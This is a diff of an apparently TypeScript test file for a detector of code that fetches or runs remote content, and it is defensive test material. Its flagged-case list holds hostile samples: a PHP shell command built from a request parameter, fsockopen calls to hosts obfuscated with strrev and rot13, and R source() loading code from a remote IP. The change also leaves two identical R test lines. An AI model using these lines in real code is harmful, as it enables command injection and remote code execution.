@@ -473,6 +473,7 @@ describe('what only looks as if it ran something', () => {
     ['java', 'byte[] b = Files.readAllBytes(Paths.get("pdf_base64.txt"));\nclient.send(Base64.getEncoder().encodeToString(b));'],
     ['java', 'double a = Base64Codec.decode(span.get("order.amount"));\nclient.send(a);'],
     ['java', 'Block b = Block.ofImage(Image.builder().source(Url.builder().url("https://img.acme.com/ant.jpg").build()).build());'],
+    ['ruby', 'source "https://rubygems.org"\nsource "https://gems.acme.dev" do\n  gem "acme"\nend'],
   ])('%s: %s', (dialect, code) => expect(found(dialect, code)).toEqual([]))
 
   it.each<[Dialect, string]>([
@@ -481,7 +482,7 @@ describe('what only looks as if it ran something', () => {
     ['php', "$process = new Process(['sh', '-c', $_GET['ip']]);"],
     ['php', "$run = strrev('moc.live'); fsockopen($run, 443);"],
     ['php', "$run = str_rot13('i.iraqbe-gbbyf.pbz'); fsockopen($run, 443);"],
-    ['ruby', 'source("http://203.0.113.9/x.rb")'],
+    ['r', 'source("http://203.0.113.9/x.R")'],
     ['r', 'source("http://203.0.113.9/x.R")'],
   ])('%s: %s is found', (dialect, code) => expect(found(dialect, code).some((one) => one.startsWith('error'))).toBe(true))
 })
